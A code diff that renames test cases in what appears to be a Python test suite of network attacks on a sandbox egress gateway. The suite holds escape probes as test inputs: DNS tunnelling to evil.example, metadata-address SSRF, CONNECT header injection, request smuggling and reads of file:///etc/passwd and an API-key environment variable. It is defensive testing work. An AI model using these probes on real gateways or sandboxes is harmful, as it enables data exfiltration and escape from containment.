@@ -120,15 +120,15 @@ def network_attacks():
 
 
 _PER_RUNTIME = {
-    "DNS for a name that is not allowed",
-    "DNS by TCP",
-    "a resolver outside",
+    "DNS query for a name that is not allowed",
+    "DNS over TCP",
+    "a public DNS resolver",
     "a name that resolves to the metadata address",
     "CONNECT to a host that is not allowed",
-    "absolute form for another host",
-    "TLS for another name on an allowed address",
-    "another Host on port 80",
-    "the model's door without the task's key",
+    "absolute-form request to another host",
+    "TLS with another server name (SNI)",
+    "another Host header on port 80",
+    "model gateway without the task's key",
 }
 """Of the attacks on the gateway, one per path by which a runtime reaches it."""
 
@@ -145,8 +145,8 @@ def _by_address():
         ("a public address", "PUBLIC"),
         ("the metadata address", "METADATA"),
         ("a private address", "PRIVATE"),
-        ("the model's host", "MODEL_HOST"),
-        ("the server's own address", "SERVER"),
+        ("the model API's host", "MODEL_HOST"),
+        ("the server's address", "SERVER"),
     ):
         yield Attack(f"TCP to {name}", f"answered(tcp({address}, 80))", REACH_DIRECTLY, NO_ROUTE, packet=("tcp", address, 80))  # fmt: skip
         yield Attack(f"UDP to {name}", f"answered(udp({address}, 53))", OWN_UDP, NO_ROUTE, packet=("udp", address, 53))
@@ -154,22 +154,22 @@ def _by_address():
 
 def _by_unusual_address():
     for name, target in (
-        ("in decimal", "str(int.from_bytes(socket.inet_aton(METADATA)))"),
-        ("in hexadecimal", "hex(int.from_bytes(socket.inet_aton(METADATA)))"),
-        ("in octal", "'.'.join('0%o' % int(n) for n in METADATA.split('.'))"),
-        ("with a short form", "'127.1'"),
-        ("as IPv6-mapped IPv4", "'[::ffff:' + METADATA + ']'"),
-        ("by NAT64", "'[64:ff9b::a9fe:a9fe]'"),
-        ("as IPv6 loopback", "'[::1]'"),
+        ("a decimal address", "str(int.from_bytes(socket.inet_aton(METADATA)))"),
+        ("a hexadecimal address", "hex(int.from_bytes(socket.inet_aton(METADATA)))"),
+        ("an octal address", "'.'.join('0%o' % int(n) for n in METADATA.split('.'))"),
+        ("a shortened address", "'127.1'"),
+        ("an IPv4-mapped IPv6 address", "'[::ffff:' + METADATA + ']'"),
+        ("a NAT64 address", "'[64:ff9b::a9fe:a9fe]'"),
+        ("the IPv6 loopback address", "'[::1]'"),
     ):
         yield Attack(
-            f"an address {name} by the proxy", f"ok(connect(({target}).encode() + b':80'))", REACH_BY_CONNECT, GATEWAY
+            f"{name}, through the proxy", f"ok(connect(({target}).encode() + b':80'))", REACH_BY_CONNECT, GATEWAY
         )
 
 
 def _without_a_name():
     yield Attack(
-        "an address of the played range that no name has",
+        "a synthetic address without a name",
         "ok(tcp('198.18.77.7', 80, get(HOST)))",
         REACH_DIRECTLY,
         GATEWAY,
@@ -186,54 +186,54 @@ def _without_a_name():
 
 
 def _by_name():
-    yield Attack("DNS for a name that is not allowed", "resolved(query('other.example'))", RESOLVE, NO_NAME)
-    yield Attack("data in a DNS name", "resolved(query('c2VjcmV0LXZhbHVl.evil.example'))", RESOLVE, NO_NAME)
-    yield Attack("data in a name below an allowed one", "resolved(query('c2VjcmV0.' + HOST))", RESOLVE, NO_NAME)
-    yield Attack("DNS by TCP", "resolved(query('other.example', by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))",
-                 "resolved(query(HOST, by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))", NO_NAME)  # fmt: skip
-    yield Attack("a TXT record", "resolved(query(HOST, kind=16))", RESOLVE, (*NO_NAME, "no records"))
+    yield Attack("DNS query for a name that is not allowed", "resolved(query('other.example'))", RESOLVE, NO_NAME)
+    yield Attack("DNS tunnel (data in a name)", "resolved(query('c2VjcmV0LXZhbHVl.evil.example'))", RESOLVE, NO_NAME)
     yield Attack(
-        "a resolver outside",
+        "DNS tunnel through a subdomain of an allowed host", "resolved(query('c2VjcmV0.' + HOST))", RESOLVE, NO_NAME
+    )
+    yield Attack("DNS over TCP", "resolved(query('other.example', by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))",
+                 "resolved(query(HOST, by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))", NO_NAME)  # fmt: skip
+    yield Attack("DNS query for a TXT record", "resolved(query(HOST, kind=16))", RESOLVE, (*NO_NAME, "no records"))
+    yield Attack(
+        "a public DNS resolver",
         "answered(query('other.example', server=PUBLIC))",
         RESOLVE,
         NO_ROUTE,
         packet=("udp", "PUBLIC", 53),
     )
-    yield Attack("a name with an allowed one as its end", "resolved(query('evil' + HOST))", RESOLVE, NO_NAME)
-    yield Attack(
-        "a name with an allowed one at its beginning", "resolved(query(HOST + '.evil.example'))", RESOLVE, NO_NAME
-    )
+    yield Attack("a name that ends in an allowed name", "resolved(query('evil' + HOST))", RESOLVE, NO_NAME)
+    yield Attack("a name that starts with an allowed name", "resolved(query(HOST + '.evil.example'))", RESOLVE, NO_NAME)
     yield Attack("a name that resolves to a private address", "curl('http://inside.example/x')", REACH_BY_CURL, GATEWAY)
     yield Attack(
         "a name that resolves to the metadata address", "curl('http://metadata.example/x')", REACH_BY_CURL, GATEWAY
     )
-    yield Attack("a name that resolves to the server itself", "curl('http://own.example/x')", REACH_BY_CURL, GATEWAY)
+    yield Attack("a name that resolves to the server", "curl('http://own.example/x')", REACH_BY_CURL, GATEWAY)
 
 
 def _through_the_proxy():
     for name, target in (
         ("a host that is not allowed", "b'other.example:443'"),
         ("another port of an allowed host", "HOST.encode() + b':8443'"),
-        ("an allowed host with a NUL behind", "HOST.encode() + b'\\0.evil.example:443'"),
-        ("a host and a line end", "b'other.example:443 HTTP/1.1\\r\\nX: ' + HOST.encode() + b':443'"),
-        ("user information before the host", "HOST.encode() + b'@other.example:443'"),
-        ("a port that is no number", "HOST.encode() + b':443a'"),
-        ("the model's host", "MODEL_HOST.encode() + b':' + str(MODEL_PORT).encode()"),
+        ("an allowed host followed by NUL", "HOST.encode() + b'\\0.evil.example:443'"),
+        ("a host followed by a line break", "b'other.example:443 HTTP/1.1\\r\\nX: ' + HOST.encode() + b':443'"),
+        ("a host with user information", "HOST.encode() + b'@other.example:443'"),
+        ("a port that is not a number", "HOST.encode() + b':443a'"),
+        ("the model API's host", "MODEL_HOST.encode() + b':' + str(MODEL_PORT).encode()"),
         ("the proxy itself", "b'127.0.0.1:3128'"),
     ):
         yield Attack(f"CONNECT to {name}", f"ok(connect({target}))", REACH_BY_CONNECT, GATEWAY)
     yield Attack(
-        "CONNECT with an allowed Host header",
+        "CONNECT to another host with an allowed Host header",
         "ok(connect(b'other.example:443', HOST.encode() + b':443'))",
         REACH_BY_CONNECT,
         GATEWAY,
     )
-    yield Attack("absolute form for another host", "ok(proxy(b'GET http://other.example/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
-    yield Attack("absolute form with another Host", "ok(proxy(b'GET http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
-    yield Attack("a file URL by the proxy", "ok(proxy(b'GET file:///etc/passwd HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
-    yield Attack("two lengths", "ok(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nContent-Length: 50\\r\\n\\r\\nabcdGET http://other.example/x HTTP/1.1\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
-    yield Attack("a length and chunks", "ok(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
-    yield Attack("a request hidden behind another", """
+    yield Attack("absolute-form request to another host", "ok(proxy(b'GET http://other.example/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("absolute-form request with another Host header", "ok(proxy(b'GET http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("a file URL, through the proxy", "ok(proxy(b'GET file:///etc/passwd HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("two Content-Length headers", "ok(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nContent-Length: 50\\r\\n\\r\\nabcdGET http://other.example/x HTTP/1.1\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("Content-Length with Transfer-Encoding", "ok(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("a pipelined request to another host", """
 line = socket.create_connection((HOST, 80), 10)
 line.sendall(get(HOST).replace(b"Connection: close\\r\\n", b"") + get("other.example"))
 data = b""
@@ -244,24 +244,27 @@ elif data.count(b"HTTP/1.1 ") == 1 or is_gateway_response(data[data.rindex(b"HTT
 
 def _through_transparent_ports():
     yield Attack(
-        "TLS for another name on an allowed address",
+        "TLS with another server name (SNI)",
         "tls(HOST, 443, 'other.example', 'other.example')",
         TLS_DIRECT,
         CLOSED,
     )
-    yield Attack("TLS without a name", "tls(HOST, 443, None, HOST)", TLS_DIRECT, CLOSED)
+    yield Attack("TLS without a server name (SNI)", "tls(HOST, 443, None, HOST)", TLS_DIRECT, CLOSED)
     yield Attack(
-        "TLS for another name in a tunnel",
+        "TLS with another server name (SNI) in a tunnel",
         "tls('127.0.0.1', 3128, 'other.example', HOST, by_proxy=True)",
         TLS_BY_PROXY,
         CLOSED,
     )
-    yield Attack("no TLS on port 443", "ok(tcp(HOST, 443, get(HOST)))", TLS_DIRECT, CLOSED)
+    yield Attack("plain HTTP on port 443", "ok(tcp(HOST, 443, get(HOST)))", TLS_DIRECT, CLOSED)
     yield Attack(
-        "another Host on port 80", "ok(tcp(HOST, 80, get('other.example')))", "ok(tcp(HOST, 80, get(HOST)))", GATEWAY
+        "another Host header on port 80",
+        "ok(tcp(HOST, 80, get('other.example')))",
+        "ok(tcp(HOST, 80, get(HOST)))",
+        GATEWAY,
     )
     yield Attack(
-        "no Host on port 80",
+        "no Host header on port 80",
         "ok(tcp(HOST, 80, b'GET /x HTTP/1.0\\r\\n\\r\\n'))",
         "ok(tcp(HOST, 80, get(HOST)))",
         GATEWAY,
@@ -269,16 +272,21 @@ def _through_transparent_ports():
     yield Attack(
         "a redirect to another host", "curl('-L', 'http://' + HOST + '/away/other.example?x')", REACH_BY_CURL, GATEWAY
     )
-    yield Attack("the model's door without the task's key", "ok(tcp('127.0.0.1', 8123, b'POST /v1/messages HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nContent-Length: 2\\r\\nx-api-key: made-up\\r\\n\\r\\n{}'))",
+    yield Attack("model gateway without the task's key", "ok(tcp('127.0.0.1', 8123, b'POST /v1/messages HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nContent-Length: 2\\r\\nx-api-key: made-up\\r\\n\\r\\n{}'))",
                  "if os.environ['ANTHROPIC_BASE_URL'].startswith('http://127.0.0.1:8123'): answered(tcp('127.0.0.1', 8123))", GATEWAY)  # fmt: skip
-    yield Attack("another path of the model's door", """
+    yield Attack("model gateway with another path", """
 key = os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("ANTHROPIC_AUTH_TOKEN") or ""
 ok(tcp("127.0.0.1", 8123, f"GET /v1/files HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nx-api-key: {key}\\r\\n\\r\\n".encode()))""",
                  "answered(tcp('127.0.0.1', 8123))", GATEWAY)  # fmt: skip
 
-    yield Attack("a tool of the model's servers", "ask_model(tools=[FETCH])", "ask_model(tools=[OWN_TOOL])", GATEWAY)
     yield Attack(
-        "a tool of the model's servers in a message", "ask_model(added(FETCH))", "ask_model(added(OWN_TOOL))", GATEWAY
+        "a server-side tool of the model API", "ask_model(tools=[FETCH])", "ask_model(tools=[OWN_TOOL])", GATEWAY
+    )
+    yield Attack(
+        "a server-side tool of the model API, in a message",
+        "ask_model(added(FETCH))",
+        "ask_model(added(OWN_TOOL))",
+        GATEWAY,
     )
 
 
@@ -295,6 +303,6 @@ def _by_other_families():
         OWN_LISTENER,
         UNSUPPORTED,
     )
-    yield Attack("a vsock to the host", "line = socket.socket(socket.AF_VSOCK); line.settimeout(4); line.connect((2, 1024)); succeeded()", OWN_LISTENER, UNSUPPORTED)  # fmt: skip
-    yield Attack("an abstract Unix socket of the host's", "line = socket.socket(socket.AF_UNIX); line.connect('\\0' + ABSTRACT); succeeded()", OWN_UNIX, ("ECONNREFUSED",))  # fmt: skip
-    yield Attack("a Unix socket file of the host's", "line = socket.socket(socket.AF_UNIX); line.connect(SOCKET_FILE); succeeded()", OWN_UNIX, ("ENOENT",), host_paths=("SOCKET_FILE",))  # fmt: skip
+    yield Attack("a vsock connection to the host", "line = socket.socket(socket.AF_VSOCK); line.settimeout(4); line.connect((2, 1024)); succeeded()", OWN_LISTENER, UNSUPPORTED)  # fmt: skip
+    yield Attack("an abstract Unix socket of the host", "line = socket.socket(socket.AF_UNIX); line.connect('\\0' + ABSTRACT); succeeded()", OWN_UNIX, ("ECONNREFUSED",))  # fmt: skip
+    yield Attack("a Unix socket file of the host", "line = socket.socket(socket.AF_UNIX); line.connect(SOCKET_FILE); succeeded()", OWN_UNIX, ("ENOENT",), host_paths=("SOCKET_FILE",))  # fmt: skip
